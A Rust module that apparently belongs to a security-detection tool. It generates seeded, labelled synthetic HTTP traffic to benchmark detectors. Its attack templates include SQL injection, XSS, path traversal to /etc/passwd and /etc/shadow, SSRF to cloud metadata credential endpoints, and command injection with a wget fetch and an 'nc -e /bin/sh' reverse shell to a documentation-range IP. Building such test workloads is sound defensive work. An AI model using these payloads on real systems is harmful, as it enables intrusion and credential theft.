//! Synthetic, labelled sensor workload: realistic HTTP requests, most benign,
//! some carrying attacks in parameters, bodies and headers.
//!
//! Used by `shieldx gen events`, the detection benches and simulator
//! workloads. Everything derives from the seed ([`SimRng`]), so the same
//! `(seed, count, ratio)` always gives the same events.
//!
//! What makes it useful for judging a detector rather than flattering it:
//! - benign traffic has varied structure (static assets, APIs with JSON
//!   bodies, searches, forms, tracking parameters) and contains the words and
//!   characters that naive rules trip on: apostrophes in names, "select",
//!   "union", "script", "drop" and "or" in search text, slashes and dots in
//!   paths, percent-encoded UTF-8;
//! - attacks are built from templates with random values and mutations (case,
//!   inline comments, whitespace variants), then placed in a random parameter,
//!   body field or header, plain, URL-encoded or double-encoded;
//! - there are no marker words: the label is only in the `label` field.

use crate::rng::SimRng;

/// One generated event with its ground truth.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LabeledEvent {
    /// `evt-<seed>-<n>`.
    pub id: String,
    /// Milliseconds since the epoch (starts at 2026-01-01, steps of 0–40 ms).
    pub ts: u64,
    /// IPv4 source.
    pub source: String,
    /// `sensor-<k>`.
    pub sensor: String,
    /// Always `http` for now.
    pub kind: String,
    /// The raw HTTP request: request line, headers, blank line, body.
    pub payload: String,
    /// Whether an attack is embedded.
    pub malicious: bool,
    /// The attack class (`sqli`, `xss`, `traversal`, `cmdi`, `ssrf`,
    /// `scanner`, `bruteforce`) or `benign`.
    pub class: &'static str,
    /// The ground-truth severity of an attack.
    pub severity: Option<&'static str>,
}

impl LabeledEvent {
    /// The security event a sensor would submit (the label stays behind).
    pub fn into_event(self) -> shieldx_core::detect::Event {
        shieldx_core::detect::Event {
            id: self.id,
            ts: self.ts,
            source: self.source,
            sensor: self.sensor,
            kind: self.kind,
            payload: self.payload.into_bytes(),
            headers: Vec::new(),
        }
    }
}

/// Generator settings.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct WorkloadConfig {
    /// The seed.
    pub seed: u64,
    /// The share of malicious events, 0.0 to 1.0.
    pub malicious_ratio: f64,
}

const USER_AGENTS: [&str; 10] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/8.5.0",
    "python-requests/2.32.3",
    "okhttp/4.12.0",
];

const WORDS: [&str; 48] = [
    "shoes", "red", "running", "union", "credit", "select", "size", "drop", "down", "menu",
    "script", "writing", "java", "coffee", "table", "lamp", "or", "and", "not", "order", "by",
    "price", "best", "sellers", "from", "where", "to", "buy", "cheap", "flights", "alert",
    "settings", "update", "user", "guide", "insert", "coin", "wallet", "exec", "summary", "char",
    "count", "sleep", "mask", "delete", "account", "window", "frame",
];

const NAMES: [&str; 12] = [
    "O'Brien", "D'Angelo", "Smith", "José", "Zoë", "Nguyen", "Müller", "O'Neil", "Kowalski",
    "Dubois", "Ng", "Björk",
];

const PATHS: [&str; 14] = [
    "/",
    "/search",
    "/products",
    "/cart",
    "/checkout",
    "/account/settings",
    "/blog",
    "/api/v1/orders",
    "/api/v2/users",
    "/login",
    "/help/faq",
    "/news/2026/11",
    "/catalog/shoes/running",
    "/support/ticket",
];

const ASSETS: [&str; 6] = [
    "/static/js/app.3f2a91c.js",
    "/static/css/main.min.css",
    "/img/logo.svg",
    "/fonts/inter-var.woff2",
    "/favicon.ico",
    "/static/js/vendor.chunk.8d1e.js",
];

fn pick<'a>(rng: &mut SimRng, items: &[&'a str]) -> &'a str {
    items[rng.below(items.len() as u64) as usize]
}

fn url_encode(text: &str, all: bool) -> String {
    let mut out = String::with_capacity(text.len() * 3);
    for b in text.bytes() {
        let keep = b.is_ascii_alphanumeric() || (!all && b"-_.~".contains(&b));
        if keep {
            out.push(b as char);
        } else if b == b' ' && !all {
            out.push('+');
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

fn random_case(rng: &mut SimRng, text: &str) -> String {
    text.chars()
        .map(|c| {
            if rng.chance(1, 2) {
                c.to_ascii_uppercase()
            } else {
                c.to_ascii_lowercase()
            }
        })
        .collect()
}

fn search_text(rng: &mut SimRng) -> String {
    let n = 1 + rng.below(4) as usize;
    (0..n)
        .map(|_| pick(rng, &WORDS))
        .collect::<Vec<_>>()
        .join(" ")
}

fn sqli(rng: &mut SimRng) -> String {
    let n = rng.below(1000);
    let cols = 1 + rng.below(8);
    let nulls = vec!["NULL"; cols as usize].join(",");
    let q = pick(rng, &["'", "\"", ""]);
    let t = match rng.below(14) {
        0 => format!("{n}{q} OR {q}1{q}={q}1"),
        1 => format!("{n}{q} UNION SELECT {nulls}-- -"),
        2 => format!("{n}{q} AND SLEEP({})#", 1 + rng.below(9)),
        3 => format!("{n}{q}; DROP TABLE users--"),
        4 => format!("admin{q}--"),
        5 => format!("{n} AND 1=CONVERT(int,(SELECT @@version))"),
        6 => format!(
            "{n}{q} AND EXTRACTVALUE({},CONCAT(0x5c,(SELECT database())))-- ",
            rng.below(9999)
        ),
        7 => format!("{n}{q} OR {}={}", n % 97, n % 97),
        8 => format!("{n}) UNION ALL SELECT {nulls},table_name FROM information_schema.tables-- -"),
        9 => format!(
            "{n}{q} AND (SELECT {} FROM (SELECT(SLEEP(5)))a)-- x",
            rng.below(9999)
        ),
        10 => format!("{n}{q} WAITFOR DELAY '0:0:{}'--", 1 + rng.below(9)),
        11 => format!(
            "{n}{q} AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>{}",
            32 + rng.below(90)
        ),
        12 => format!("{q} OR 1=1 LIMIT 1 OFFSET {}#", rng.below(5)),
        _ => format!("{n}{q} AND {}={} AND {q}x{q}={q}x", n, n),
    };
    let t = if rng.chance(1, 3) {
        random_case(rng, &t)
    } else {
        t
    };
    if rng.chance(1, 4) {
        t.replace(' ', "/**/")
    } else {
        t
    }
}

fn xss(rng: &mut SimRng) -> String {
    let f = pick(rng, &["alert", "prompt", "confirm", "eval", "fetch"]);
    let arg = rng.below(1000);
    let t = match rng.below(10) {
        0 => format!("<script>{f}({arg})</script>"),
        1 => format!("\"><img src=x onerror={f}({arg})>"),
        2 => format!("<svg/onload={f}({arg})>"),
        3 => format!("javascript:{f}(document.cookie)"),
        4 => format!("'><iframe src=\"javascript:{f}({arg})\"></iframe>"),
        5 => format!("<body onload={f}('{arg}')>"),
        6 => format!("<a href=\"jav&#x09;ascript:{f}({arg})\">x</a>"),
        7 => format!("\"onmouseover=\"{f}({arg})"),
        8 => format!("<details open ontoggle={f}({arg})>"),
        _ => format!("<script src=//x{arg}.example.net/x.js></script>"),
    };
    if rng.chance(1, 3) {
        random_case(rng, &t)
    } else {
        t
    }
}

fn traversal(rng: &mut SimRng) -> String {
    let depth = 2 + rng.below(8) as usize;
    let target = pick(
        rng,
        &[
            "etc/passwd",
            "etc/shadow",
            "windows/win.ini",
            "boot.ini",
            "proc/self/environ",
            "WEB-INF/web.xml",
        ],
    );
    let sep = pick(
        rng,
        &[
            "../",
            "..\\",
            "..%2f",
            "%2e%2e/",
            "....//",
            "..%c0%af",
            "%2e%2e%5c",
        ],
    );
    let suffix = pick(rng, &["", "%00", "%00.png"]);
    format!("{}{target}{suffix}", sep.repeat(depth))
}

fn cmdi(rng: &mut SimRng) -> String {
    let cmd = pick(
        rng,
        &[
            "id",
            "cat /etc/passwd",
            "uname -a",
            "whoami",
            "wget http://203.0.113.7/s.sh",
            "nc -e /bin/sh 203.0.113.7 4444",
        ],
    );
    match rng.below(5) {
        0 => format!("127.0.0.1; {cmd}"),
        1 => format!("x| {cmd}"),
        2 => format!("`{cmd}`"),
        3 => format!("$({cmd})"),
        _ => format!("a && {cmd}"),
    }
}

fn ssrf(rng: &mut SimRng) -> String {
    pick(
        rng,
        &[
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "http://127.0.0.1:6379/",
            "gopher://127.0.0.1:25/_HELO",
            "file:///etc/passwd",
            "http://[::1]:8080/admin",
            "http://metadata.google.internal/computeMetadata/v1/",
            "dict://localhost:11211/stats",
        ],
    )
    .to_string()
}

/// Login attempts in one brute-force burst (all from one source).
const BURST_ATTEMPTS: u32 = 20;

/// The seeded generator; an iterator of events.
#[derive(Debug)]
pub struct Workload {
    rng: SimRng,
    seed: u64,
    ratio_per_million: u64,
    next: u64,
    ts: u64,
    burst: Option<(String, u32)>,
}

impl Workload {
    /// A generator for `config`.
    pub fn new(config: WorkloadConfig) -> Workload {
        let ratio = config.malicious_ratio.clamp(0.0, 1.0);
        Workload {
            rng: SimRng::stream(config.seed, "workload"),
            seed: config.seed,
            ratio_per_million: (ratio * 1_000_000.0).round() as u64,
            next: 0,
            ts: 1_767_225_600_000,
            burst: None,
        }
    }

    fn source(&mut self) -> String {
        let r = &mut self.rng;
        format!(
            "{}.{}.{}.{}",
            10 + r.below(200),
            r.below(256),
            r.below(256),
            1 + r.below(254)
        )
    }

    fn benign_target(&mut self) -> (String, String, Option<String>) {
        let r = &mut self.rng;
        match r.below(8) {
            0 | 1 => ("GET".into(), pick(r, &ASSETS).into(), None),
            2 => {
                let q = search_text(r);
                (
                    "GET".into(),
                    format!(
                        "/search?q={}&page={}",
                        url_encode(&q, false),
                        1 + r.below(20)
                    ),
                    None,
                )
            }
            3 => {
                let name = pick(r, &NAMES);
                let body = format!(
                    "name={}&email={}%40example.org&comment={}",
                    url_encode(name, false),
                    url_encode(&name.to_lowercase().replace('\'', ""), false),
                    url_encode(&search_text(r), false)
                );
                ("POST".into(), "/contact".into(), Some(body))
            }
            4 => {
                let body = format!(
                    "{{\"items\":[{{\"sku\":\"SKU-{}\",\"qty\":{}}}],\"note\":\"{}\"}}",
                    r.below(99_999),
                    1 + r.below(5),
                    search_text(r)
                );
                ("POST".into(), "/api/v1/orders".into(), Some(body))
            }
            5 => (
                "GET".into(),
                format!(
                    "{}?utm_source={}&utm_medium=email&utm_campaign=fall-{}",
                    pick(r, &PATHS),
                    pick(r, &["newsletter", "google", "partner.example.com"]),
                    r.below(100)
                ),
                None,
            ),
            6 => (
                "GET".into(),
                format!(
                    "/products/{}?sort={}&filter=size%3A{}",
                    r.below(100_000),
                    pick(r, &["price_asc", "price_desc", "rating"]),
                    36 + r.below(12)
                ),
                None,
            ),
            _ => ("GET".into(), pick(r, &PATHS).into(), None),
        }
    }

    fn request(
        &mut self,
        method: &str,
        target: &str,
        ua: &str,
        extra: &[(String, String)],
        body: Option<&str>,
    ) -> String {
        let mut out = format!(
            "{method} {target} HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: {ua}\r\nAccept: */*\r\n"
        );
        if self.rng.chance(1, 2) {
            out.push_str(&format!(
                "Cookie: session={:016x}; theme=dark\r\n",
                self.rng.next_u64()
            ));
        }
        for (k, v) in extra {
            out.push_str(&format!("{k}: {v}\r\n"));
        }
        if let Some(body) = body {
            out.push_str(&format!("Content-Length: {}\r\n\r\n{body}", body.len()));
        } else {
            out.push_str("\r\n");
        }
        out
    }

    /// The next attempt of the open brute-force burst.
    fn login_attempt(&mut self) -> (Option<String>, String, &'static str, &'static str) {
        let (source, left) = self
            .burst
            .take()
            .unwrap_or_else(|| (self.source(), BURST_ATTEMPTS));
        if left > 1 {
            self.burst = Some((source.clone(), left - 1));
        }
        let body = format!("username=admin&password={:08x}", self.rng.next_u64() as u32);
        let ua = pick(&mut self.rng, &USER_AGENTS);
        let payload = self.request("POST", "/login", ua, &[], Some(&body));
        (Some(source), payload, "bruteforce", "high")
    }

    /// An attack request: (source if the attack fixes it, payload, class, severity).
    fn attack(&mut self) -> (Option<String>, String, &'static str, &'static str) {
        // An open brute-force burst supplies every other attack until it ends.
        if self.burst.is_some() && self.rng.chance(1, 2) {
            return self.login_attempt();
        }
        let class = self.rng.below(100);
        let (class, severity, payload) = match class {
            0..=29 => ("sqli", "critical", sqli(&mut self.rng)),
            30..=54 => ("xss", "high", xss(&mut self.rng)),
            55..=69 => ("traversal", "high", traversal(&mut self.rng)),
            70..=79 => ("cmdi", "critical", cmdi(&mut self.rng)),
            80..=86 => ("ssrf", "high", ssrf(&mut self.rng)),
            87..=93 => {
                let ua = pick(
                    &mut self.rng,
                    &[
                        "sqlmap/1.8.2#stable (https://sqlmap.org)",
                        "Nikto/2.5.0",
                        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
                        "masscan/1.3",
                        "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
                        "Fuzz Faster U Fool v2.1.0",
                    ],
                );
                let (method, target, body) = self.benign_target();
                let payload = self.request(&method, &target, ua, &[], body.as_deref());
                return (None, payload, "scanner", "medium");
            }
            _ => {
                if self.burst.is_none() {
                    self.burst = Some((self.source(), BURST_ATTEMPTS));
                }
                return self.login_attempt();
            }
        };
        let encoded = match self.rng.below(3) {
            0 => url_encode(&payload, false),
            1 => url_encode(&payload, true),
            _ => url_encode(&url_encode(&payload, true), true),
        };
        let ua = pick(&mut self.rng, &USER_AGENTS);
        let param = pick(
            &mut self.rng,
            &["id", "q", "file", "url", "page", "name", "redirect", "lang"],
        );
        let payload = match self.rng.below(10) {
            0..=5 => {
                let path = pick(&mut self.rng, &PATHS);
                let target = format!("{path}?{param}={encoded}&ref={}", self.rng.below(100));
                self.request("GET", &target, ua, &[], None)
            }
            6 | 7 => {
                let body = format!("{param}={encoded}&submit=1");
                let path = pick(&mut self.rng, &PATHS);
                self.request("POST", path, ua, &[], Some(&body))
            }
            8 => {
                let header = pick(
                    &mut self.rng,
                    &["Referer", "X-Forwarded-For", "X-Api-Version"],
                );
                self.request("GET", "/", ua, &[(header.into(), payload.clone())], None)
            }
            _ => self.request("GET", &format!("/{encoded}"), ua, &[], None),
        };
        (None, payload, class, severity)
    }
}

impl Iterator for Workload {
    type Item = LabeledEvent;

    fn next(&mut self) -> Option<LabeledEvent> {
        let n = self.next;
        self.next += 1;
        self.ts += self.rng.below(41);
        let malicious = self.rng.below(1_000_000) < self.ratio_per_million;
        let (source, payload, class, severity) = if malicious {
            let (source, payload, class, severity) = self.attack();
            let source = source.unwrap_or_else(|| self.source());
            (source, payload, class, Some(severity))
        } else {
            let (method, target, body) = self.benign_target();
            let ua = pick(&mut self.rng, &USER_AGENTS);
            let payload = self.request(&method, &target, ua, &[], body.as_deref());
            (self.source(), payload, "benign", None)
        };
        Some(LabeledEvent {
            id: format!("evt-{}-{n}", self.seed),
            ts: self.ts,
            source,
            sensor: format!("sensor-{}", self.rng.below(4)),
            kind: "http".into(),
            payload,
            malicious,
            class,
            severity,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn same_seed_same_events_and_ratio_is_respected() {
        let config = WorkloadConfig {
            seed: 9,
            malicious_ratio: 0.2,
        };
        let a: Vec<_> = Workload::new(config).take(5_000).collect();
        let b: Vec<_> = Workload::new(config).take(5_000).collect();
        assert_eq!(a, b);
        let bad = a.iter().filter(|e| e.malicious).count();
        assert!((900..1_100).contains(&bad), "{bad}");
        assert!(
            a.iter()
                .all(|e| e.payload.starts_with("GET ") || e.payload.starts_with("POST "))
        );
        let classes: std::collections::BTreeSet<_> = a.iter().map(|e| e.class).collect();
        for c in [
            "benign",
            "sqli",
            "xss",
            "traversal",
            "cmdi",
            "ssrf",
            "scanner",
            "bruteforce",
        ] {
            assert!(classes.contains(c), "{c} missing");
        }
        assert!(a.windows(2).all(|w| w[0].ts <= w[1].ts));
    }

    #[test]
    fn no_marker_words_in_payloads() {
        for e in Workload::new(WorkloadConfig {
            seed: 1,
            malicious_ratio: 0.5,
        })
        .take(2_000)
        {
            let lower = e.payload.to_lowercase();
            for marker in ["malicious", "attack", "benign", "evil-payload"] {
                assert!(!lower.contains(marker), "{marker} in {}", e.payload);
            }
        }
    }

    #[test]
    fn zero_ratio_is_all_benign() {
        assert!(
            Workload::new(WorkloadConfig {
                seed: 3,
                malicious_ratio: 0.0
            })
            .take(1_000)
            .all(|e| !e.malicious)
        );
    }
}
